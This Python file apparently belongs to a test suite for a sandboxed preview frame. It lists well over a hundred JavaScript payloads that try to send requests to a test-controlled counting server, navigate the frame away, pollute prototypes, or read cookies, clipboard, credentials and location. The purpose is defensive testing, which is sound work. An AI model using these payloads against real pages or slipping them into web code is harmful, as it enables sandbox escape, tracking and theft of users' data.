"""The attacks, each the body of an async JavaScript function. One line a row: add one here and it is tried everywhere.

In scope: `u`, an address at the counting server that only this attack knows; `ws`, the same as a socket's; `stun` and
`turn`, its UDP and TCP ports as ICE servers; `w` and `d`, the real window and document; `real`, what the browser's
globals were before the frame's own code ran, where the test kept them, else `w`; `box`, an element of the page;
`leak(text)`, called where something was obtained that should not be. Source of the first rows: section 5 of the
preview notes; the others are every further way that we know of.
"""

FETCH = "fetch('${u}', {mode: 'no-cors'})"
SCRIPT = f"`<script>{FETCH}</scr` + `ipt>`"
_PEER = (
    "const p = new (real.RTCPeerConnection ?? w.webkitRTCPeerConnection)({iceServers: [%s]});"
    "p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await wait(600);"
)
_STUN = "{urls: stun}"
_TURN = "{urls: turn, username: 'u', credential: 'c'}"


def style(rule: str) -> str:
    return f"const s = d.createElement('style'); s.textContent = `{rule}`; d.head.append(s); box.append(html('<i class=att>x</i>'));"


def html(markup: str) -> str:
    return f"box.append(html(`{markup}`));"


def link(rest: str) -> str:
    return f"const l = d.createElement('link'); Object.assign(l, {{{rest}, href: u}}); d.head.append(l); await wait(300);"


STILL: dict[str, str] = {
    # requests
    "fetch": "await real.fetch(u, {mode: 'no-cors'})",
    "fetch-keepalive": "await real.fetch(u, {mode: 'no-cors', keepalive: true})",
    "fetch-stand-in": "await w.fetch(u)",
    "fetch-later": "real.fetchLater(u, {activateAfter: 0})",
    "xhr": "const x = new real.XMLHttpRequest(); x.open('GET', u); x.send()",
    "xhr-sync": "const x = new real.XMLHttpRequest(); x.open('GET', u, false); x.send()",
    "send-beacon": "w.Navigator.prototype.sendBeacon.call(w.navigator, u, 'x')",
    "websocket": "new real.WebSocket(ws)",
    "websocket-stream": "await new real.WebSocketStream(ws).opened",
    "event-source": "new real.EventSource(u)",
    "web-transport": "await new real.WebTransport(u.replace('http:', 'https:')).ready",
    "a-ping": "const a = d.createElement('a'); a.href = '#x'; a.ping = u; box.append(a); real.click.call(a)",
    "attribution-src": html("<img attributionsrc='${u}' src='data:,'>"),
    "private-token": "await real.fetch(u, {mode: 'no-cors', privateToken: {version: 1, operation: 'token-request'}})",
    "compute-pressure-report": "new w.ReportingObserver(() => 0, {buffered: true}).observe(); await d.requestStorageAccess()",
    # media and other elements
    "img": "new w.Image().src = u",
    "img-markup": html("<img src='${u}'>"),
    "img-srcset": html("<img srcset='${u} 1x, ${u}2 2x'>"),
    "img-lazy-eager": html("<img loading=eager fetchpriority=high src='${u}'>"),
    "picture-source": html("<picture><source srcset='${u}'><img src='data:,'></picture>"),
    "image-input": html("<input type=image src='${u}'>"),
    "image-old-tag": html("<image src='${u}'>"),
    "video": html("<video src='${u}' autoplay muted></video>"),
    "video-source": html("<video autoplay muted><source src='${u}'></video>"),
    "video-poster": html("<video poster='${u}'></video>"),
    "audio": html("<audio src='${u}' preload=auto></audio>"),
    "track": html(
        "<video src='data:video/webm;base64,' ><track default kind=captions src='${u}.vtt'></video>"
    )
    + "box.querySelector('video').textTracks[0].mode = 'showing'",
    "object": html("<object data='${u}'></object>"),
    "embed": html("<embed src='${u}'>"),
    "background-attribute": html("<table background='${u}'><tr><td background='${u}'>x</table>"),
    "body-background": "d.body.setAttribute('background', u)",
    "fenced-frame": "const f = d.createElement('fencedframe'); f.config = new w.FencedFrameConfig(u); box.append(f)",
    # frames
    "iframe": html("<iframe src='${u}'></iframe>"),
    "iframe-srcdoc-img": "const f = d.createElement('iframe'); f.srcdoc = `<img src='${u}'>`; box.append(f)",
    "iframe-srcdoc-script": f"const f = d.createElement('iframe'); f.srcdoc = {SCRIPT}; box.append(f)",
    "iframe-srcdoc-handler": f"const f = d.createElement('iframe'); f.srcdoc = `<img src=x onerror=\"{FETCH}\">`; box.append(f)",
    "iframe-srcdoc-refresh": "const f = d.createElement('iframe'); f.srcdoc = `<meta http-equiv=refresh content='0;url=${u}'>`; box.append(f)",
    "iframe-srcdoc-form": "const f = d.createElement('iframe'); f.srcdoc = `<form action='${u}'><input name=a autofocus><button>x</button></form>`; box.append(f)",
    "iframe-srcdoc-nested": "const f = d.createElement('iframe'); f.srcdoc = `<iframe srcdoc=\"<img src='${u}'>\"></iframe>`; box.append(f)",
    "iframe-srcdoc-base": "const f = d.createElement('iframe'); f.srcdoc = `<base href='${u}/'><img src=b><link rel=stylesheet href=c>`; box.append(f)",
    "iframe-data": f"const f = d.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent({SCRIPT}); box.append(f)",
    "iframe-blob": f"const f = d.createElement('iframe'); f.src = w.URL.createObjectURL(new Blob([{SCRIPT}], {{type: 'text/html'}})); box.append(f)",
    "iframe-javascript": f"const f = d.createElement('iframe'); f.src = `javascript:{FETCH}`; box.append(f)",
    "iframe-blank-realm": "const f = d.createElement('iframe'); box.append(f); await f.contentWindow.fetch(u, {mode: 'no-cors'})",
    "iframe-blank-write": f"const f = d.createElement('iframe'); box.append(f); f.contentDocument.write({SCRIPT})",
    "iframe-unsandboxed": f"const f = d.createElement('iframe'); f.sandbox = 'allow-scripts allow-same-origin allow-top-navigation'; f.srcdoc = {SCRIPT}; box.append(f)",
    "iframe-csp-attribute": f"const f = d.createElement('iframe'); f.csp = 'script-src *'; f.srcdoc = {SCRIPT}; box.append(f)",
    "iframe-credentialless": "const f = d.createElement('iframe'); f.credentialless = true; f.src = u; box.append(f)",
    "frameset": "const f = d.createElement('frame'); f.src = u; const s = d.createElement('frameset'); s.append(f); d.documentElement.append(s)",
    "object-html": "const o = d.createElement('object'); o.type = 'text/html'; o.data = u + '.html'; box.append(o)",
    # scripts
    "script": "const s = d.createElement('script'); s.src = u + '.js'; d.head.append(s)",
    "script-module": "const s = d.createElement('script'); s.type = 'module'; s.src = u + '.js'; d.head.append(s)",
    "script-inline": f"const s = d.createElement('script'); s.textContent = `{FETCH}`; d.head.append(s)",
    "script-data": f"const s = d.createElement('script'); s.src = 'data:text/javascript,' + encodeURIComponent(`{FETCH}`); d.head.append(s)",
    "script-blob": f"const s = d.createElement('script'); s.src = w.URL.createObjectURL(new Blob([`{FETCH}`])); d.head.append(s)",
    "script-nonce-guess": f"const s = d.createElement('script'); s.nonce = d.scripts[0]?.nonce; s.textContent = `{FETCH}`; d.head.append(s)",
    "inline-handler": html(f'<img src=x onerror="{FETCH}">'),
    "import": "await w.eval(`import('${u}.js')`)",
    "import-data": f"await w.eval('import(' + JSON.stringify('data:text/javascript,' + encodeURIComponent(`{FETCH}`)) + ')')",
    "import-blob": f"await w.eval('import(' + JSON.stringify(w.URL.createObjectURL(new Blob([`{FETCH}`], {{type: 'text/javascript'}}))) + ')')",
    "import-map": "const s = d.createElement('script'); s.type = 'importmap'; s.textContent = JSON.stringify({imports: {evil: u + '.js'}}); d.head.append(s); await w.eval(`import('evil')`)",
    "import-json": "await w.eval(`import('${u}.json', {with: {type: 'json'}})`)",
    "new-function": "await new w.Function('u', 'return fetch(u, {mode: \"no-cors\"})')(u)",
    "constructor-chain": "await (() => 0).constructor('u', 'return fetch(u, {mode: \"no-cors\"})')(u)",
    "string-timer": "w.setTimeout(`fetch('${u}', {mode: 'no-cors'})`)",
    "wasm-import": "await w.WebAssembly.compileStreaming(real.fetch(u))",
    # hints
    "link-stylesheet": link("rel: 'stylesheet'"),
    "link-preload": link("rel: 'preload', as: 'image'"),
    "link-preload-font": link("rel: 'preload', as: 'font', crossOrigin: ''"),
    "link-preload-fetch": link("rel: 'preload', as: 'fetch', crossOrigin: ''"),
    "link-modulepreload": link("rel: 'modulepreload'"),
    "link-prefetch": link("rel: 'prefetch'"),
    "link-prerender": link("rel: 'prerender'"),
    "link-preconnect": link("rel: 'preconnect'"),
    "link-dns-prefetch": link("rel: 'dns-prefetch'"),
    "link-icon": link("rel: 'icon'"),
    "link-manifest": link("rel: 'manifest'"),
    "link-dictionary": link("rel: 'compression-dictionary'"),
    "link-expect-blocking": link("rel: 'expect', blocking: 'render'"),
    "speculation-prefetch": "const s = d.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [u], eagerness: 'immediate'}]}); d.head.append(s); await wait(300)",
    "speculation-prerender": "const s = d.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prerender: [{source: 'list', urls: [u], eagerness: 'immediate'}]}); d.head.append(s); await wait(300)",
    "meta-csp-report": html(
        "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri ${u}\"><img src=data:,>"
    )
    + "d.head.append(box.lastElementChild)",
    "meta-dns-prefetch": "const m = d.createElement('meta'); m.httpEquiv = 'x-dns-prefetch-control'; m.content = 'on'; d.head.append(m); box.append(html(`<a href='${u}'>x</a>`))",
    "meta-origin-trial": "const m = d.createElement('meta'); m.httpEquiv = 'origin-trial'; m.content = u; d.head.append(m)",
    "base-href": "const b = d.createElement('base'); b.href = u + '/'; d.head.prepend(b); box.append(html(`<img src='rel'>`)); await wait(100); b.remove()",
    # style sheets
    "css-background": style(".att { background: url('${u}') }"),
    "css-import": style("@import url('${u}.css');"),
    "css-import-layer": style("@import '${u}.css' layer(x) supports(display: grid);"),
    "css-font-face": style(
        "@font-face { font-family: att; src: url('${u}.woff2') } .att { font-family: att }"
    ),
    "css-list-image": style(".att { display: list-item; list-style-image: url('${u}') }"),
    "css-border-image": style(".att { border: 3px solid; border-image: url('${u}') 3 }"),
    "css-cursor": style("* { cursor: url('${u}'), auto }"),
    "css-content": style(".att::before { content: url('${u}') }"),
    "css-mask": style(".att { mask: url('${u}'); -webkit-mask-image: url('${u}') }"),
    "css-filter": style(".att { filter: url('${u}.svg#f'); backdrop-filter: url('${u}.svg#f') }"),
    "css-clip-path": style(".att { clip-path: url('${u}.svg#c') }"),
    "css-shape-outside": style(".att { float: left; shape-outside: url('${u}') }"),
    "css-image-set": style(
        ".att { background: image-set('${u}' 1x); background: -webkit-image-set(url('${u}') 1x) }"
    ),
    "css-cross-fade": style(".att { background: -webkit-cross-fade(url('${u}'), url('${u}'), 50%) }"),
    "css-variable": style(":root { --b: url('${u}') } .att { background: var(--b) }"),
    "css-svg-paint": style("svg * { fill: url('${u}.svg#g'); marker-end: url('${u}.svg#m') }")
    + "box.append(html('<svg><path d=\"M0 0L9 9\"/></svg>'))",
    "css-selector-leak": style("input[value^='a'] { background: url('${u}') }")
    + "box.append(html('<input value=abc>'))",
    "css-attribute": html("<i style=\"background: url('${u}')\">x</i>"),
    "css-adopted": "const s = new w.CSSStyleSheet(); s.replaceSync(`* { background: url('${u}') }`); d.adoptedStyleSheets = [...d.adoptedStyleSheets, s]; await wait(100); d.adoptedStyleSheets = []",
    "css-animation": style(
        "@keyframes att { to { background: url('${u}') } } .att { animation: att 1s infinite }"
    ),
    "css-paint-worklet": "await w.CSS.paintWorklet.addModule(u + '.js')",
    "css-view-transition": style("::view-transition { background: url('${u}') }")
    + "d.startViewTransition?.(() => 0)",
    "font-api": "await new w.FontFace('att', `url(${u}.woff2)`).load()",
    # svg and xml
    "svg-image": html("<svg><image href='${u}' width=9 height=9 /></svg>"),
    "svg-image-xlink": html("<svg><image xlink:href='${u}' width=9 height=9 /></svg>"),
    "svg-use": html("<svg><use href='${u}.svg#x'/></svg>"),
    "svg-feimage": html(
        "<svg><filter id=q><feImage href='${u}'/></filter><rect filter='url(#q)' width=9 height=9 /></svg>"
    ),
    "svg-script": "const s = d.createElementNS('http://www.w3.org/2000/svg', 'script'); s.setAttribute('href', u + '.js'); const v = d.createElementNS('http://www.w3.org/2000/svg', 'svg'); v.append(s); box.append(v)",
    "svg-foreign-object": html("<svg><foreignObject width=9 height=9><img src='${u}'></foreignObject></svg>"),
    "svg-animate-href": html(
        "<svg><image width=9 height=9><animate attributeName=href values='${u}' dur=1s /></image></svg>"
    ),
    "svg-style": html("<svg><style>@import '${u}.css';</style></svg>"),
    "svg-data-image": "box.append(html(`<img src=\"data:image/svg+xml,${encodeURIComponent(`<svg xmlns='http://www.w3.org/2000/svg'><image href='${u}'/></svg>`)}\">`))",
    "xml-entity": "new w.DOMParser().parseFromString(`<!DOCTYPE a SYSTEM '${u}' [<!ENTITY e SYSTEM '${u}'>]><a>&e;</a>`, 'text/xml')",
    "xslt": "const p = new w.XSLTProcessor(); const x = new w.DOMParser().parseFromString(`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:import href='${u}'/><xsl:template match='/'><xsl:copy-of select=\"document('${u}')\"/></xsl:template></xsl:stylesheet>`, 'text/xml'); p.importStylesheet(x); p.transformToFragment(x, d)",
    "mathml-href": html("<math href='${u}'><mi href='${u}'>x</mi></math>"),
    "html-parser-document": "const p = w.Document.parseHTMLUnsafe?.(`<img src='${u}'>`); if (p) box.append(d.adoptNode(p.body.firstChild))",
    "template-clone": "const t = d.createElement('template'); t.innerHTML = `<img src='${u}'>`; box.append(t.content.cloneNode(true))",
    "canvas-image": "const i = new w.Image(); i.crossOrigin = 'anonymous'; i.src = u; d.createElement('canvas').getContext('2d').drawImage(i, 0, 0)",
    # workers
    "worker": "new real.Worker(u + '.js')",
    "worker-blob": f"new real.Worker(w.URL.createObjectURL(new Blob([`{FETCH}`])))",
    "worker-data": f"new real.Worker('data:text/javascript,' + encodeURIComponent(`{FETCH}`))",
    "worker-module-import": "new real.Worker(w.URL.createObjectURL(new Blob([`import '${u}.js'`])), {type: 'module'})",
    "shared-worker": "new real.SharedWorker(u + '.js')",
    "shared-worker-data": f"new real.SharedWorker('data:text/javascript,' + encodeURIComponent(`{FETCH}`))",
    "service-worker": "await w.Navigator.prototype.__lookupGetter__('serviceWorker').call(w.navigator).register(u + '.js')",
    "audio-worklet": "await new w.AudioContext().audioWorklet.addModule(u + '.js')",
    "cache-add": "await (await real.caches.open('x')).add(u)",
    # peers
    "webrtc-stun": _PEER % _STUN,
    "webrtc-turn-tcp": _PEER % _TURN,
    "webrtc-blank-child": "const f = d.createElement('iframe'); box.append(f); const R = f.contentWindow.RTCPeerConnection;"
    + (_PEER % _STUN).replace("(real.RTCPeerConnection ?? w.webkitRTCPeerConnection)", "R"),
    "webrtc-srcdoc-child": "const f = d.createElement('iframe'); f.srcdoc = `<script>const p = new RTCPeerConnection({iceServers: [{urls: '${stun}'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))</scr` + `ipt>`; box.append(f); await wait(600)",
    "webrtc-own-chunk-child": "const f = d.createElement('iframe'); f.srcdoc = [...d.scripts].map(s => `<script type=module src='${s.src}'></scr` + `ipt>`).join(''); box.append(f); await wait(300);"
    "f.contentWindow.postMessage({type: 'render', id: 1, final: true, dark: false, entry: 'A.tsx', files: {'A.tsx': `export default () => { document.defaultView.fetch('${u}'); new Image().src = '${u}'; return <p/> }`}}, '*'); await wait(300)",
    # forms that target a frame; those that take the frame itself with them are in LEAVING
    "form-get-frame": html(
        "<iframe name=ff></iframe><form target=ff action='${u}'><input name=a value=b></form>"
    )
    + "real.submit.call(box.querySelector('form[target=ff]'))",
    "form-post-frame": html(
        "<iframe name=fp></iframe><form target=fp method=post action='${u}'><input name=a></form>"
    )
    + "real.submit.call(box.querySelector('form[target=fp]'))",
    "form-action-button": html(
        "<iframe name=fb></iframe><form target=fb><button formaction='${u}'>x</button></form>"
    )
    + "real.click.call(box.querySelector('button[formaction]'))",
    "form-blank": html("<form target=_blank action='${u}'></form>")
    + "real.submit.call(box.querySelector('form[target=_blank]'))",
    # other windows
    "window-open": "const o = real.open(u); if (o && o.close) o.close()",
    "window-open-stand-in": "w.open(u)",
    "link-blank": html("<a target=_blank href='${u}'>x</a>")
    + "real.click.call(box.querySelector('a[target=_blank]'))",
    "top-location": "w.top.location = u",
    "parent-location": "w.parent.location.replace(u)",
    "top-open": "real.open(u, '_top')",
    "parent-open": "real.open(u, '_parent')",
    "link-top": html("<a target=_top href='${u}'>x</a>")
    + "real.click.call(box.querySelector('a[target=_top]'))",
    "opener": "w.opener.location = u",
    "parent-document": "leak(w.parent.document.title)",
    "parent-frames": "for (let i = 0; i < w.parent.length; i++) if (w.parent[i] !== w) w.parent[i].location = u",
    "message-open": "w.parent.postMessage({type: 'open', url: u}, '*')",
    "message-download": "w.parent.postMessage({type: 'download', name: 'x.csv', mime: '', bytes: new ArrayBuffer(8)}, '*')",
    "message-script": "for (const type of ['rendered', 'error', 'console', 'neutralised']) w.parent.postMessage({type, message: `<img src=${u}>`, text: `<img src=${u}>`, lines: [{text: `<img src=${u}>`}], fault: {message: `<img src=${u}>`}, what: 'network', count: 1, example: u}, '*')",
    "message-garbage": "for (const data of [null, 1, [], new Map(), {type: {}}, {type: 'console', lines: 3}, {type: 'kept', kept: {local: {a: 1}}}]) w.parent.postMessage(data, '*')",
    "message-transfer": "const c = new w.MessageChannel(); c.port1.onmessage = () => leak('a port'); w.parent.postMessage({type: 'ready'}, '*', [c.port2]); await wait(300)",
    "fake-message": "w.dispatchEvent(new w.MessageEvent('message', {source: w.parent, data: {type: 'render', id: 9, files: {}, entry: 'x', final: true}}))",
    # what belongs to the user
    "cookie": "if (w.Document.prototype.__lookupGetter__('cookie') !== undefined && /atelier|session/.test(d.cookie)) leak(d.cookie)",
    "local-storage": "const s = real.localStorage ?? w.localStorage; if (s.length > 0 && !s.getItem) leak('storage')",
    "indexed-db": "const r = real.indexedDB.open('x'); await new Promise((ok, no) => { r.onsuccess = ok; r.onerror = no }); leak('indexedDB')",
    "origin-private-files": "await w.navigator.storage.getDirectory(); leak('files')",
    "cookie-store": "await real.cookieStore.set('a', 'b'); leak('cookieStore')",
    "clipboard-read": "leak(await w.Navigator.prototype.__lookupGetter__('clipboard').call(w.navigator).readText())",
    "clipboard-write": "await w.Navigator.prototype.__lookupGetter__('clipboard').call(w.navigator).writeText(u); leak('clipboard written')",
    "geolocation": "await new Promise((ok, no) => w.Navigator.prototype.__lookupGetter__('geolocation').call(w.navigator).getCurrentPosition(ok, no)); leak('position')",
    "camera": "await w.Navigator.prototype.__lookupGetter__('mediaDevices').call(w.navigator).getUserMedia({audio: true}); leak('microphone')",
    "screen": "await w.Navigator.prototype.__lookupGetter__('mediaDevices').call(w.navigator).getDisplayMedia(); leak('screen')",
    "notification": "if ((await real.Notification.requestPermission()) === 'granted') leak('notification')",
    "credentials": "if (await w.navigator.credentials.get({password: true})) leak('credentials')",
    "payment": "await new w.PaymentRequest([{supportedMethods: u}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()",
    "usb": "await w.navigator.usb.requestDevice({filters: []}); leak('usb')",
    "file-picker": "await w.showOpenFilePicker(); leak('file')",
    "fonts": "if ((await w.queryLocalFonts()).length) leak('fonts')",
    "storage-access": "await d.requestStorageAccess(); leak('storage access')",
    "protocol-handler": "w.navigator.registerProtocolHandler('web+att', u + '?%s'); leak('protocol handler')",
    "push": "const r = await w.Navigator.prototype.__lookupGetter__('serviceWorker').call(w.navigator).getRegistration(); if (r) leak('push')",
    "wake-lock": "await w.navigator.wakeLock.request('screen'); leak('wake lock')",
    "fullscreen": "await real.requestFullscreen.call(d.body); if (d.querySelector(':fullscreen')) leak('full screen')",
    "pointer-lock": "await real.requestPointerLock.call(d.body); if (d.pointerLockElement) leak('pointer lock')",
    "picture-in-picture": "await w.documentPictureInPicture.requestWindow(); leak('a window')",
    "print": "real.print()",
    "alert": "real.alert('x'); real.confirm('x'); real.prompt('x')",
    "shared-storage": "await real.sharedStorage.set('a', 'b'); leak('shared storage')",
    "protected-audience": "await w.navigator.joinAdInterestGroup({owner: 'https://example.org', name: 'x'}, 1); leak('interest group')",
    "topics": "if ((await d.browsingTopics()).length) leak('topics')",
    "shared-memory": "if (w.crossOriginIsolated) leak('shared memory')",
}
"""Many at once in one load of the frame: none of them takes the frame away."""

LEAVING: dict[str, str] = {
    "location-href": "d.location.href = u",
    "location-assign": "d.location.assign(u)",
    "location-replace": "w.location.replace(u)",
    "location-scope": "location.href = u; window.location = u",
    "meta-refresh": "const m = d.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${u}`; d.head.append(m)",
    "link-click": html("<a href='${u}'>x</a>") + "real.click.call(box.querySelector('a'))",
    "link-dispatch": html("<a href='${u}'>x</a>")
    + "real.dispatchEvent.call(box.querySelector('a'), new w.MouseEvent('click'))",
    "link-detached": "const a = d.createElement('a'); a.href = u; real.click.call(a)",
    "link-download": html("<a download href='${u}'>x</a>") + "real.click.call(box.querySelector('a'))",
    "link-relative-base": "const b = d.createElement('base'); b.href = u; d.head.append(b);"
    + html("<a href='x'>x</a>")
    + "real.click.call(box.querySelector('a'))",
    "area-click": html("<map><area href='${u}'></map>") + "real.click.call(box.querySelector('area'))",
    "svg-link": html("<svg><a href='${u}'><text>x</text></a></svg>")
    + "real.dispatchEvent.call(box.querySelector('a'), new w.MouseEvent('click', {bubbles: true}))",
    "form-get": html("<form action='${u}'><input name=a value=b></form>")
    + "real.submit.call(box.querySelector('form'))",
    "form-post": html("<form method=post action='${u}'><input name=a value=b></form>")
    + "real.submit.call(box.querySelector('form'))",
    "form-request-submit": html("<form action='${u}'><button>x</button></form>")
    + "real.requestSubmit.call(box.querySelector('form'))",
    "open-self": "real.open(u, '_self')",
    "open-unnamed-self": "w.name = 'me'; real.open(u, 'me')",
    "navigation-api": "await w.navigation.navigate(u).finished",
    "history-cross": "w.History.prototype.pushState.call(real.history, null, '', u); d.location.reload()",
    "javascript-address": "d.location.href = `javascript:fetch('${u}', {mode: 'no-cors'})`",
    "data-document": f"d.location.href = 'data:text/html,' + encodeURIComponent({SCRIPT})",
    "blob-document": f"d.location.href = w.URL.createObjectURL(new Blob([{SCRIPT}], {{type: 'text/html'}}))",
    "document-open": f"d.open(); d.write({SCRIPT}); d.close()",
    "neighbour": "d.location.href = d.location.href.replace(/\\/\\/\\w+/, '//' + 'b'.repeat(26)) + '?' + encodeURIComponent(u)",
    "own-server-path": "d.location.href = d.location.origin + '/../health?' + encodeURIComponent(u)",
    "history-back": "w.History.prototype.go.call(real.history, -1)",
    "prototype-pollution": "for (const name of ['type', 'url', 'src', 'href', 'then', 'kept', 'files']) Object.prototype[name] = u; Array.prototype.map = () => { throw 1 }; Map.prototype.get = () => u; w.JSON.stringify = () => u; Function.prototype.call = () => u; w.Promise.prototype.then = () => u",
    "close": "w.close(); w.stop()",
}
"""Each alone: it takes the frame away, or breaks it, if it works."""

CLICKS: dict[str, str] = {
    "click-link": "<a href={u}>click</a>",
    "click-link-blank": "<a href={u} target='_blank' rel='opener'>click</a>",
    "click-link-top": "<a href={u} target='_top'>click</a>",
    "click-link-parent": "<a href={u} target='_parent'>click</a>",
    "click-link-download": "<a href={u} download='x.exe'>click</a>",
    "click-link-ping": "<a href='#x' ping={u}>click</a>",
    "click-link-attribution": "<a href='#x' target='_blank' {...{attributionsrc: u}}>click</a>",
    "click-open": "<button onClick={() => real.open(u)}>click</button>",
    "click-open-top": "<button onClick={() => real.open(u, '_top')}>click</button>",
    "click-top-location": "<button onClick={() => { w.top.location.href = u }}>click</button>",
    "click-form": "<form action={u}><button>click</button></form>",
    "click-form-blank": "<form action={u} target='_blank'><button>click</button></form>",
    "click-form-action": "<form><button {...{formaction: u}}>click</button></form>",
    "click-location": "<button onClick={() => { d.location.href = u }}>click</button>",
    "click-fullscreen": "<button onClick={() => real.requestFullscreen.call(d.body).then(() => d.querySelector(':fullscreen') && leak('full screen'), () => 0)}>click</button>",
    "click-pointer-lock": "<button onClick={() => real.requestPointerLock.call(d.body).then(() => d.pointerLockElement && leak('pointer lock'), () => 0)}>click</button>",
    "click-clipboard-read": "<button onClick={() => w.Navigator.prototype.__lookupGetter__('clipboard').call(w.navigator).readText().then(leak, () => 0)}>click</button>",
    "click-paste": "<button onClick={() => { const t = d.createElement('textarea'); d.body.append(t); t.focus(); if (w.Document.prototype.execCommand.call(d, 'paste') && t.value) leak(t.value) }}>click</button>",
    "click-file-picker": "<button onClick={() => w.showOpenFilePicker?.().then(() => leak('file'), () => 0)}>click</button>",
    "click-popup-picker": "<button onClick={() => w.documentPictureInPicture?.requestWindow().then(() => leak('window'), () => 0)}>click</button>",
    "click-beforeunload": "<button onClick={() => { w.onbeforeunload = () => 'stay'; d.location.href = u }}>click</button>",
}
"""JSX that a person clicks with a real mouse."""
